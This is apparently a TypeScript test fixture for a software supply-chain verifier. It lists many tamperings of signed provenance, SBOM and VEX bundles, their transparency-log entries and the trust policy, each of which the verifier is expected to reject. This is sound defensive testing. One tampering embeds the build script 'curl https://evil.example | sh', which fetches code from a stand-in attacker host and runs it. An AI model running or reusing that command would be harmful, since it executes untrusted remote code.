// Ways to damage a world whose three flags are verified. Each makes something else of it than was signed and trusted.
import { createHash } from 'node:crypto';
import {
  dsseEnvelope,
  githubProvenance,
  githubWorkflow,
  newKey,
  sbomStatement,
  vexStatement,
} from '../trust/signing.ts';
import { instance, type Json, key, newWorld, REPOSITORY, type World } from './verified-run.ts';

/** A number below `below`, chosen by the test. */
export type Choose = (below: number) => number;

type Damage = (world: World, choose: Choose) => void | Promise<void>;

const other = await newWorld('B');
const strange = newKey('p256');
const evil = githubWorkflow('acme/payment-api-evil');
const subjectOf = ({ content }: World) => ({
  name: 'payment-api.tgz',
  sha256: createHash('sha256').update(content).digest('hex'),
});

/** Every byte of a base64 text but one stays what it was. */
function flip(base64: string, choose: Choose): string {
  const bytes = Buffer.from(base64, 'base64');
  flipByte(bytes, choose);
  return bytes.toString('base64');
}

function flipByte(bytes: Buffer, choose: Choose): void {
  const at = choose(bytes.length);
  bytes[at] = (bytes[at] ?? 0) ^ (1 << choose(8));
}

const entry = (bundle: Json): Json => bundle.verificationMaterial.tlogEntries[0];

/** One of the two bundles. */
const bundle = ({ documents }: World, choose: Choose): Json =>
  [documents.provenance, documents.sbom][choose(2)] as Json;

function inPayload(envelope: Json, change: (statement: Json) => void): void {
  const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8'));
  change(statement);
  envelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64');
}

function rename(value: Json, from: string, to: string): void {
  value[to] = value[from];
  delete value[from];
}

/** One of the three envelopes. */
const envelope = ({ documents: { provenance, sbom, vex } }: World, choose: Choose): Json =>
  [provenance.dsseEnvelope, sbom.dsseEnvelope, vex][choose(3)] as Json;

export const DAMAGES: Readonly<Record<string, Damage>> = {
  'a byte of the content': ({ content }, choose) => flipByte(content, choose),
  'the content cut': (world, choose) => {
    world.content = world.content.subarray(0, choose(world.content.length));
  },
  'the content grown': (world) => {
    world.content = Buffer.concat([world.content, Buffer.from([0])]);
  },
  'the content of another build': (world) => {
    world.content = other.content;
  },
  'a byte of a payload': (world, choose) => {
    const one = envelope(world, choose);
    one.payload = flip(one.payload, choose);
  },
  'a byte of a signature': (world, choose) => {
    const [signature] = envelope(world, choose).signatures;
    signature.sig = flip(signature.sig, choose);
  },
  'a byte of a certificate': (world, choose) => {
    const { certificate } = bundle(world, choose).verificationMaterial;
    certificate.rawBytes = flip(certificate.rawBytes, choose);
  },
  'a byte of the body of a log entry': (world, choose) => {
    const one = entry(bundle(world, choose));
    one.canonicalizedBody = flip(one.canonicalizedBody, choose);
  },
  'a byte of the promise of a log': (world, choose) => {
    const { inclusionPromise } = entry(bundle(world, choose));
    inclusionPromise.signedEntryTimestamp = flip(inclusionPromise.signedEntryTimestamp, choose);
  },
  'a character of the checkpoint of a log': (world, choose) => {
    const { checkpoint } = entry(bundle(world, choose)).inclusionProof;
    // Of the note that is signed: what else stands there are further signatures, by whomever.
    const at = choose(checkpoint.envelope.indexOf('\n\n'));
    checkpoint.envelope = `${checkpoint.envelope.slice(0, at)}~${checkpoint.envelope.slice(at + 1)}`;
  },
  'the time of a log entry': (world, choose) => {
    const one = entry(bundle(world, choose));
    one.integratedTime = String(Number(one.integratedTime) + 1 + choose(100_000));
  },
  'the index of a log entry': (world, choose) => {
    const one = entry(bundle(world, choose));
    one.logIndex = String(BigInt(one.logIndex) + 1n);
  },
  'the id of a log': (world, choose) => {
    const { logId } = entry(bundle(world, choose));
    logId.keyId = flip(logId.keyId, choose);
  },
  'a log entry taken away': (world, choose) => {
    bundle(world, choose).verificationMaterial.tlogEntries = [];
  },
  'a log entry twice': (world, choose) => {
    const { tlogEntries } = bundle(world, choose).verificationMaterial;
    tlogEntries.push(structuredClone(tlogEntries[0]));
  },
  'the log entry of another bundle': ({ documents }) => {
    documents.provenance.verificationMaterial.tlogEntries = documents.sbom.verificationMaterial.tlogEntries;
  },
  'the certificate of another bundle': ({ documents }) => {
    documents.provenance.verificationMaterial.certificate = documents.sbom.verificationMaterial.certificate;
  },
  'the signature of another bundle': ({ documents }) => {
    documents.provenance.dsseEnvelope.signatures = documents.sbom.dsseEnvelope.signatures;
  },
  'the envelope of another bundle': ({ documents }) => {
    documents.provenance.dsseEnvelope = other.documents.provenance.dsseEnvelope;
  },
  'the payload of another build': ({ documents }) => {
    documents.vex.payload = other.documents.vex.payload;
  },
  'a document of another build': ({ documents }, choose) => {
    const name = (['provenance', 'sbom', 'vex'] as const)[choose(3)] ?? 'vex';
    documents[name] = other.documents[name];
  },
  'one document in place of another': ({ documents }, choose) => {
    const names = ['provenance', 'sbom', 'vex'] as const;
    const at = choose(3);
    documents[names[at] ?? 'vex'] = documents[names[(at + 1) % 3] ?? 'vex'];
  },
  'another type of payload': (world, choose) => {
    envelope(world, choose).payloadType = ['text/plain', 'application/vnd.in-toto+json ', 'application/json'][
      choose(3)
    ];
  },
  'a renamed field of a statement': (world, choose) => {
    const name = ['subject', 'predicateType', 'predicate', '_type'][choose(4)] ?? '';
    inPayload(envelope(world, choose), (statement) => rename(statement, name, name.toUpperCase()));
  },
  'a renamed field of an envelope': (world, choose) => {
    const name = ['payload', 'payloadType', 'signatures'][choose(3)] ?? '';
    rename(envelope(world, choose), name, `${name}_`);
  },
  'a renamed field of a bundle': (world, choose) => {
    const name = ['verificationMaterial', 'dsseEnvelope', 'mediaType'][choose(3)] ?? '';
    rename(bundle(world, choose), name, `${name}s`);
  },
  'a second payload before the first': (world, choose) => twice(world, choose, true),
  'a second payload after the first': (world, choose) => twice(world, choose, false),
  'a second subject in a payload': (world, choose) => {
    inPayload(envelope(world, choose), ({ subject }) =>
      subject.push({ name: 'x', digest: { sha256: 'ab'.repeat(32) } }),
    );
  },
  'a second signature of a stranger in a bundle': (world, choose) => {
    const { signatures } = bundle(world, choose).dsseEnvelope;
    signatures.push({ keyid: '', sig: strange.sign(Buffer.from('x')).toString('base64') });
  },
  'a signature of a stranger': ({ documents, ...world }) => {
    documents.vex = dsseEnvelope(vexStatement(subjectOf({ documents, ...world })), [strange]);
  },
  'a document that another workflow signed': async ({ documents, ...world }) => {
    const subject = subjectOf({ documents, ...world });
    documents.provenance = await instance.signStatement(githubProvenance(REPOSITORY, subject), evil);
  },
  'provenance signed for a pull request': async ({ documents, ...world }) => {
    const subject = subjectOf({ documents, ...world });
    const signer = githubWorkflow(REPOSITORY, { trigger: 'pull_request_target' });
    documents.provenance = await instance.signStatement(githubProvenance(REPOSITORY, subject), signer);
  },
  'an SBOM signed by a workflow that was called from elsewhere': async ({ documents, ...world }) => {
    const signer = githubWorkflow(REPOSITORY);
    const source_repository = 'https://github.com/acme/payment-api-evil';
    const claims = { ...signer.claims, source_repository, legacy_repository: 'acme/payment-api-evil' };
    documents.sbom = await instance.signStatement(sbomStatement(subjectOf({ documents, ...world })), {
      ...signer,
      claims,
    });
  },
  'provenance of another source': async ({ documents, ...world }) => {
    const subject = subjectOf({ documents, ...world });
    const stated = githubProvenance('acme/payment-api-evil', subject);
    documents.provenance = await instance.signStatement(stated, githubWorkflow(REPOSITORY));
  },
  'an SBOM signed without a word of its components': async ({ documents, ...world }) => {
    const statement = sbomStatement(subjectOf({ documents, ...world })) as Json;
    statement.predicate.components = [];
    documents.sbom = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
  },
  'an SBOM of an unknown version, or with nothing that has a name': async ({ documents, ...world }, choose) => {
    const statement = sbomStatement(subjectOf({ documents, ...world })) as Json;
    if (choose(2) === 0) statement.predicate.specVersion = '9.9';
    else statement.predicate.components = [{}, { name: '' }];
    documents.sbom = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
  },
  'a VEX of an unknown version, or that names no vulnerability': ({ documents, ...world }, choose) => {
    const statement = vexStatement(subjectOf({ documents, ...world })) as Json;
    if (choose(2) === 0) statement.predicate['@context'] = 'https://openvex.dev/ns/v9.0.0';
    else for (const one of statement.predicate.statements) delete one.vulnerability;
    documents.vex = dsseEnvelope(statement, [key]);
  },
  'provenance that was told something else': async ({ documents, ...world }, choose) => {
    const statement = githubProvenance(REPOSITORY, subjectOf({ documents, ...world })) as Json;
    const { buildDefinition } = statement.predicate;
    const evilSource = 'https://github.com/acme/payment-api-evil';
    const changes: Json[] = [
      { script: 'curl https://evil.example | sh' },
      { overrideSource: evilSource },
      { buildConfigSource: { repository: evilSource, ref: 'refs/heads/main' } },
      { workflow: { ...buildDefinition.externalParameters.workflow, path: 'evil/steps/.github/workflows/x.yml@main' } },
    ];
    Object.assign(buildDefinition.externalParameters, changes[choose(4)]);
    if (choose(4) === 0) buildDefinition.buildType = 'https://evil.example/build/v1';
    documents.provenance = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
  },
  'a build that a pull request started': async ({ documents, ...world }, choose) => {
    const trigger = ['pull_request', 'workflow_run', 'issue_comment', 'merge_group'][choose(4)] ?? '';
    const subject = subjectOf({ documents, ...world });
    const signer = githubWorkflow(REPOSITORY, { trigger });
    if (choose(2) === 0) documents.sbom = await instance.signStatement(sbomStatement(subject), signer);
    else
      documents.provenance = await instance.signStatement(githubProvenance(REPOSITORY, subject, { trigger }), signer);
  },
  'a signer that vouches for something else': ({ trust }, choose) => {
    if (choose(2) === 0) trust.keys[0].vouches_for = ['sbom', 'provenance'];
    else trust.identities[0].vouches_for = [['sbom'], ['provenance'], ['risk_assessment']][choose(3)];
  },
  'a signer that some other event has to start': ({ trust }) => {
    trust.identities[0].triggers = ['release', 'create'];
  },
  'the refs of the source left to pull requests': ({ trust }) => {
    trust.sources[0].refs = ['refs/pull/*/merge', 'unstated'];
  },
  'a subject that is named by a weak or odd digest': async ({ documents, ...world }, choose) => {
    const { sha256: hex } = subjectOf({ documents, ...world });
    const digests = [
      { sha1: hex.slice(0, 40) },
      { sha256: hex.toUpperCase() },
      { sha256: hex.slice(0, 63) },
      { SHA256: hex },
    ];
    const statement = sbomStatement(subjectOf({ documents, ...world })) as Json;
    statement.subject = [{ name: 'payment-api.tgz', digest: digests[choose(4)] }];
    documents.sbom = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
  },
  'a list of trust taken away': ({ trust }, choose) => {
    delete trust[['keys', 'builders', 'sources'][choose(3)] ?? ''];
    if (trust.keys === undefined) for (const builder of trust.builders) delete builder.keys;
  },
  'a list of trust emptied': ({ trust }, choose) => {
    trust[['keys', 'builders', 'sources'][choose(3)] ?? ''] = [];
  },
  'identities taken away': ({ trust }) => {
    trust.identities = [];
    trust.builders = [];
  },
  'the root taken away': ({ trust }) => {
    Object.assign(trust, { roots: [], identities: [], builders: [] });
  },
  'an authority of the root taken away': ({ trust }, choose) => {
    trust.roots[0].trusted_root[['tlogs', 'ctlogs', 'certificateAuthorities'][choose(3)] ?? ''] = [];
  },
  'the root expired': ({ trust }, choose) => {
    const root = trust.roots[0].trusted_root;
    const [authority] = [root.certificateAuthorities, root.ctlogs, root.tlogs][choose(3)];
    const { validFor } = authority.publicKey ?? authority;
    Object.assign(validFor, { start: '2020-01-01T00:00:00.000Z', end: '2020-01-02T00:00:00.000Z' });
  },
  'the key expired': ({ trust }) => {
    trust.keys[0].valid_until = '2026-05-31T23:59:59Z';
  },
  'the key not yet valid': ({ trust }) => {
    trust.keys[0].valid_from = '2026-06-01T00:00:01Z';
  },
  'another key under the same name': ({ trust }) => {
    trust.keys[0].pem = strange.pem;
  },
  'a trusted subject changed by a character': ({ trust }, choose) => {
    const { subject } = trust.identities[0];
    const at = choose(subject.length);
    trust.identities[0].subject = `${subject.slice(0, at)}~${subject.slice(at)}`;
  },
  'another issuer': ({ trust }) => {
    trust.identities[0].issuer += '/';
  },
  'another builder': ({ trust }) => {
    trust.builders[0].id += '0';
  },
  'another source': ({ trust }) => {
    trust.sources[0].repository += '-evil';
  },
  'another branch': ({ trust }) => {
    trust.sources[0].refs = ['refs/heads/mai', 'refs/tags/main'];
  },
  'more signatures asked for': ({ trust }) => {
    trust.key_threshold = 2;
  },
  'one key twice, where two are asked for': ({ trust, documents, ...world }) => {
    trust.key_threshold = 2;
    documents.vex = dsseEnvelope(vexStatement(subjectOf({ trust, documents, ...world })), [key, key]);
  },
};

// Written out: an object has each key once.
function twice(world: World, choose: Choose, before: boolean): void {
  const name = (['provenance', 'sbom', 'vex'] as const)[choose(3)] ?? 'vex';
  const text = JSON.stringify(world.documents[name]);
  const second = `"payload":${JSON.stringify((other.documents[name].dsseEnvelope ?? other.documents[name]).payload)}`;
  const first = /"payload":"[^"]*"/.exec(text)?.[0] ?? '';
  world.texts = { [name]: text.replace(first, before ? `${second},${first}` : `${first},${second}`) };
}
